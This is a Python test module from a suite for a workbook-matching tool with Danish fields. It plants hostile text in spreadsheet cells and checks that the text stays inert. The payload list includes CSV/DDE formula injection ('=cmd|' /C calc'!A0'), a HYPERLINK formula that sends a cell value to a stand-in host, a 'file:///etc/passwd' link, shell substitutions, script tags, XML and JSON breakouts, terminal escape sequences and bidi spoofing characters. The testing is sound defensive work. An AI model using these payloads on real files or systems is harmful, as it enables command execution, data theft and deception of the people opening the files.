"""Family text: formula triggers, markup, escapes and bidirectional marks in people's words."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from .case import Case, Expect, one_file
from .packages import workbook
from .people import add_column, host_marker, host_rows, intern_marker, intern_rows, set_value
from .zips import pack

FAMILY = "text"
_HOST, _INTERN = host_marker(2), intern_marker(2)

# Everything here can stand in a cell, so it must stand unchanged in the match workbook.
PAYLOADS: tuple[tuple[str, str], ...] = (
    ("equals", "=1+1"),
    ("plus", "+1+1"),
    ("minus", "-1+1"),
    ("at", "@SUM(1+1)"),
    ("tab-equals", "\t=1+1"),
    ("return-equals", "\r=1+1"),
    ("newline-equals", "\n=1+1"),
    ("blank-equals", " =1+1"),
    ("wide-equals", "＝1+1"),
    ("hyperlink", '=HYPERLINK("http://ondt.example.invalid/?"&A1,"Klik")'),
    ("command", "=cmd|' /C calc'!A0"),
    ("plus-command", "+cmd|' /C calc'!A0"),
    ("web", '=WEBSERVICE("http://ondt.example.invalid")'),
    ("array", "{=1+1}"),
    ("quote-equals", '"=1+1"'),
    ("apostrophe", "'=1+1"),
    ("percent", "%0A=1+1"),
    ("semicolon", ";=1+1"),
    ("address", "http://ondt.example.invalid/x"),
    ("internal", "internal:Sheet1!A1"),
    ("external", "external:c:\\ondt.xlsx"),
    ("file-link", "file:///etc/passwd"),
    ("mailto", "mailto:a@ondt.example.invalid"),
    ("markup-close", "[/nope]"),
    ("markup-bold", "[bold]fed[/bold]"),
    ("markup-link", "[link=http://ondt.example.invalid]x[/link]"),
    ("markup-open", "[red"),
    ("markup-backslash", "\\[/nope]\\"),
    ("markup-at", "[@click=app.bell]x[/]"),
    ("emoji-code", ":warning: :smile:"),
    ("percent-format", "%s %n %(navn)s {0} {navn!r} ${HOME} $(id) `id`"),
    ("html", "<script>alert(1)</script>&amp;<b>"),
    ("xml", "]]></t></is></c><c><f>1+1</f></c>"),
    ("json", '", "errors": 0, "x": "'),
    ("header-codes", "&L&D&\"Arial\"&G"),
    ("bidi-override", "\u202egro.dno\u202c"),
    ("bidi-isolate", "\u2067abc\u2069\u2066\u061c\u200f"),
    ("zero-width", "a\u200b\u200d\u2060b"),
    ("c1-csi", "\x9b31mrød\x9b0m"),
    ("c1-osc", "\x9d0;titel\x9c"),
    ("next-line", "a\x85b"),
    ("delete", "a\x7fb"),
    ("surrogate-pair", "😀\U0001f9d1\U0010ffff"[:2]),
    ("long-word", "a" * 5000),
    ("many-lines", "\n".join(["linje"] * 200)),
    ("escape-typed", "_x001B_[31m"),
)  # fmt: skip
# No cell can hold these: the person is kept, the characters are replaced.
_CONTROL = (
    ("escape", "\x1b[31mrød\x1b[0m"),
    ("escape-title", "\x1b]0;ondt\x07"),
    ("escape-link", "\x1b]8;;http://ondt.example.invalid\x1b\\x\x1b]8;;\x1b\\"),
    ("backspace", "Anna\x08\x08\x08\x08Bent"),
    ("bell", "\x07\x07\x07"),
    ("clear", "\x1bc\x1b[2J"),
)


def _stored(text: str) -> str:
    """Write characters that XML cannot hold, and escapes typed by people, as Excel does."""
    text = text.replace("_x00", "_x005F_x00")
    return "".join(f"_x{ord(c):04X}_" if ord(c) < 32 and c not in "\t\n" else c for c in text)


def _everywhere(payload: str) -> Callable[[], bytes]:
    """Put a payload wherever people may type, before a marker."""

    def data() -> bytes:
        hosts, interns = host_rows(), intern_rows()
        for header in ("Arbejdsplads", "Organisation", "Kontaktperson", "Det kan I opleve"):
            set_value(hosts, 2, header, _stored(f"{payload} {_HOST}"))
        for header in ("Navn", "Stilling", "Arbejdsplads", "Organisation", "Motivation", "Telefon"):
            set_value(interns, 2, header, _stored(f"{payload} {_INTERN}"))
        add_column(interns, _stored(f"{payload} kolonne"), ["-", _stored(payload)])
        return pack(workbook({"Værter": hosts, "Praktikanter": interns}))

    return data


def _refused_value(payload: str) -> Callable[[], bytes]:
    """Put a payload where only certain words may stand, so that it is shown in a finding."""

    def data() -> bytes:
        interns = intern_rows()
        for header in ("Sektor", "Kommune", "E-mail"):
            set_value(interns, 2, header, _stored(payload))
        return pack(workbook({"Værter": host_rows(), "Praktikanter": interns}))

    return data


_SHOWN = {"markup-close", "markup-bold", "markup-open", "markup-link", "emoji-code", "equals"}


def cases() -> Iterator[Case]:
    """Give the cases of the family."""
    why = "People's words are text: unchanged in the workbook, dead as formulas, tame on screen."
    for name, payload in PAYLOADS:
        kept = (f"{payload} {_HOST}", f"{payload} {_INTERN}", f"{payload} kolonne")
        make = one_file("tilmelding.xlsx", _everywhere(payload))
        # A finding about so odd a workplace would be fair, so only the people are counted.
        yield Case(
            FAMILY, name, Expect.ALL, why, make, clean=False, match=True, kept=kept, screen=True
        )
    why = "No cell can hold the character: it is replaced, and nobody is lost."
    for name, payload in _CONTROL:
        make = one_file("tilmelding.xlsx", _everywhere(payload))
        marks = (_HOST, _INTERN)
        yield Case(
            FAMILY, name, Expect.ALL, why, make, clean=False, match=True, markers=marks, screen=True
        )
    why = "An unknown value is shown in its finding as it was typed, and without power."
    for name, payload in (*PAYLOADS, *_CONTROL):
        make = one_file("tilmelding.xlsx", _refused_value(payload))
        shown = payload if name in _SHOWN else ""
        yield Case(
            FAMILY,
            f"{name}-in-finding",
            Expect.ALL,
            why,
            make,
            clean=False,
            some_error=True,
            screen=True,
            shown=shown,
        )
